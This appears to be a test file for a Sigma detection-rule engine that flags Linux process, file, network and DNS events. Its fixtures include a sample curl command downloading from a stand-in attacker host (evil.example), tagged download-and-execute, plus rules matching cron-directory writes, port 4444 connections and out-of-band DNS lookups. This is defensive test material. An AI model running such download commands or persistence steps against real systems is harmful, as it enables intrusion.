import assert from "node:assert/strict";
import { test } from "node:test";
import { Engine } from "../../../src/engine/engine.ts";
import type { Samples } from "../../../src/engine/signature.ts";
import { ProcessTree } from "../../../src/jobs/process_tree.ts";
import { sigmaSignature } from "../../../src/signatures/sigma/rule.ts";
import { complete } from "../../engine/sample.ts";

/** The lines of a rule for programs that start, with this detection. */
const ruleWith = (detection: string, more = "") => `
title: A test
id: 0b54ae21-2c53-4c64-9d0a-4b1a5c5e0a01
level: high
tags: [attack.execution, attack.t1105]
logsource: { category: process_creation, product: linux }
${more}
detection:
${detection.replace(/^/gm, "  ")}
`;

const parentRuns: Samples = {
  ...{ event: "process_exec", process_key: 1, pid: 11 },
  ...{ path: "/usr/bin/bash", args: ["bash", "build.sh"], cwd: "/src" },
};
const curl: Samples = {
  ...{ event: "process_exec", process_key: 2, parent_key: 1, pid: 12, uid: 1000 },
  ...{ path: "/usr/bin/curl", args: ["curl", "-sSL", "https://evil.example/x?y"], cwd: "/src" },
};

function found(rule: string, ...events: readonly Samples[]) {
  const tree = new ProcessTree();
  const engine = new Engine([sigmaSignature(rule)], tree, 1);
  const findings = events.map(complete).flatMap((event, i) => {
    tree.apply(event);
    return engine.judge(event, i + 1);
  });
  assert.deepEqual(engine.problems, []);
  return findings;
}
/** Whether it fires on curl, whose parent is a shell. */
const fires = (detection: string): boolean =>
  found(ruleWith(detection), parentRuns, curl).some(({ process }) => process.pid === 12);

test("a rule becomes a signature with its title, level, techniques and behaviours", () => {
  const [finding, ...more] = found(
    ruleWith("s: { Image|endswith: /curl, CommandLine|contains: evil }\ncondition: s"),
    parentRuns,
    curl,
  );

  assert.deepEqual(more, []);
  assert.equal(finding?.signature, "SIGMA-0b54ae21-2c53-4c64-9d0a-4b1a5c5e0a01");
  assert.equal(finding.severity, "high");
  assert.deepEqual(finding.behaviours, ["download_execute"]);
  assert.equal(finding.message, "A test: curl -sSL https://evil.example/x?y");
  assert.equal(finding.process.pid, 12);
});

const conditions: readonly [string, boolean][] = [
  ["a: { Image: /usr/bin/curl }\ncondition: a", true],
  ["a: { Image: /USR/bin/CURL }\ncondition: a", true],
  ["a: { Image|cased: /USR/bin/CURL }\ncondition: a", false],
  ["a: { Image: curl }\ncondition: a", false],
  ["a: { Image: '*/cur?' }\ncondition: a", true],
  ["a: { Image: '*/cur\\?' }\ncondition: a", false],
  ["a: { CommandLine: '*x\\?y' }\ncondition: a", true],
  ["a: { CommandLine|contains: [nothing, evil] }\ncondition: a", true],
  ["a: { CommandLine|contains|all: [curl, evil] }\ncondition: a", true],
  ["a: { CommandLine|contains|all: [nothing, evil] }\ncondition: a", false],
  ["a: { CommandLine|startswith: curl, ParentImage|endswith: /bash }\ncondition: a", true],
  ["a: { CommandLine|re: 'https?://[^/]+\\.example' }\ncondition: a", true],
  ["a: { CommandLine|re: 'EVIL' }\ncondition: a", false],
  ["a: { CommandLine|re|i: 'EVIL' }\ncondition: a", true],
  ["a: { UserId: 1000 }\ncondition: a", true],
  ["a: { UserId|gte: 1001 }\ncondition: a", false],
  ["a: { ParentCommandLine: null }\ncondition: a", false],
  ["a: { Image|exists: true }\ncondition: not a", false],
  ["a: [{ Image: /bin/x }, { Image|endswith: curl }]\ncondition: a", true],
  ["a: { Image: /x }\nb: { Image|endswith: curl }\ncondition: a or b", true],
  ["a: { Image: /x }\nb: { Image|endswith: curl }\ncondition: a and b", false],
  ["a: { Image: /x }\nb: { Image|endswith: curl }\ncondition: not a and b", true],
  ["a: { Image: /x }\nb: { Image|endswith: curl }\ncondition: not (a or b)", false],
  ["a1: { Image: /x }\na2: { Image|endswith: curl }\ncondition: 1 of a*", true],
  ["a1: { Image: /x }\na2: { Image|endswith: curl }\ncondition: all of a*", false],
  ["a1: { Image: /x }\na2: { Image|endswith: curl }\ncondition: 1 of them and not a1", true],
  ["_a: { Image|endswith: curl }\nb: { Image: /x }\ncondition: 1 of them", false],
];
for (const [detection, expected] of conditions) {
  const line = detection.replaceAll("\n", "; ");
  test(`${expected ? "fires" : "is silent"}: ${line}`, () => {
    assert.equal(fires(detection), expected);
  });
}

test("a file that is made, or gets its name, is a file event; one that is opened is not", () => {
  const rule = `
title: Cron
logsource: { category: file_event, product: linux }
detection: { s: { TargetFilename|startswith: /etc/cron.d/ }, condition: s }
`;
  const path = "/etc/cron.d/x";
  const by = { process_key: 1 };

  const opened = found(rule, { event: "file_open", ...by, path });
  const made = found(rule, { event: "file_open", ...by, path, created: "yes" });
  const renamed = found(rule, { event: "file_rename", ...by, path: "/tmp/x", new_path: path });

  assert.deepEqual([opened.length, made.length, renamed.length], [0, 1, 1]);
  assert.equal(made[0]?.severity, "medium");
  assert.equal(made[0].message, "Cron: /etc/cron.d/x");
});

test("a connection is compared by address, network and port", () => {
  const rule = (what: string) => `
title: Out
logsource: { category: network_connection, product: linux }
detection: { s: { ${what} }, condition: s }
`;
  const to = (peer: string) => ({ event: "socket_connect", process_key: 1, peer }) as const;

  assert.equal(found(rule("DestinationPort: 4444"), to("192.0.2.1:4444")).length, 1);
  assert.equal(found(rule("DestinationPort: 4444"), to("[2001:db8::1]:44")).length, 0);
  assert.equal(found(rule("DestinationIp: 2001:db8::1"), to("[2001:db8::1]:44")).length, 1);
  assert.equal(found(rule("DestinationIp|cidr: 192.0.2.0/24"), to("192.0.2.200:1")).length, 1);
  assert.equal(found(rule("DestinationIp|cidr: 192.0.2.0/24"), to("192.0.3.1:1")).length, 0);
  assert.equal(found(rule("DestinationIp|cidr: 192.0.2.0/24"), to("")).length, 0);
});

test("a question to a name server is compared by its name", () => {
  const rule = `
title: Asked
logsource: { category: dns_query, product: linux }
detection: { s: { QueryName|endswith: .oast.example }, condition: s }
`;
  const asks = (name: string) => ({ event: "dns_query", process_key: 1, name }) as const;

  assert.equal(found(rule, asks("a1.oast.example"))[0]?.message, "Asked: a1.oast.example");
  assert.equal(found(rule, asks("oast.example.org")).length, 0);
});

const refusals: readonly [string, RegExp][] = [
  [ruleWith("a: { Image: x }\ncondition: a | count() > 3"), /aggregations/],
  [ruleWith("a: { Image: x }\ncondition: b"), /names "b", which is not there/],
  [ruleWith("a: { Image: x }\ncondition: 1 of b*"), /matches no selection/],
  [ruleWith("a: { Image: x }\ncondition: (a"), /not closed/],
  [ruleWith("a: { Image: x }\ncondition: a a"), /does not end before "a"/],
  [ruleWith("a: { Image: x }\ncondition: a and"), /ends where a selection/],
  [ruleWith(`a: { Image: x }\ncondition: "${"not ".repeat(200)}a"`), /nested too deeply/],
  [ruleWith("a: { Image: x }"), /condition is missing/],
  [ruleWith("a: [word]\ncondition: a"), /keywords/],
  [ruleWith("a: { Hashes: x }\ncondition: a"), /field Hashes is not known/],
  [ruleWith("a: { constructor: x }\ncondition: a"), /field constructor is not known/],
  [ruleWith("a: { Image|base64offset: x }\ncondition: a"), /base64offset is not supported/],
  [ruleWith("a: { Image|re: '(' }\ncondition: a"), /cannot be read/],
  [ruleWith("a: { Image|cidr: here }\ncondition: a"), /no network/],
  [ruleWith("a: { Image: [] }\ncondition: a"), /empty/],
  [ruleWith("a: { Image: x }\ncondition: a").replace("linux", "windows"), /windows, not linux/],
  [ruleWith("a: { Image: x }\ncondition: a").replace("process_creation", "x"), /none of process_/],
  ["title: x", /logsource/],
  ["- 1", /the rule/],
];
for (const [rule, why] of refusals) {
  test(`a rule that cannot be used says why: ${why.source}`, () => {
    assert.throws(() => sigmaSignature(rule), why);
  });
}
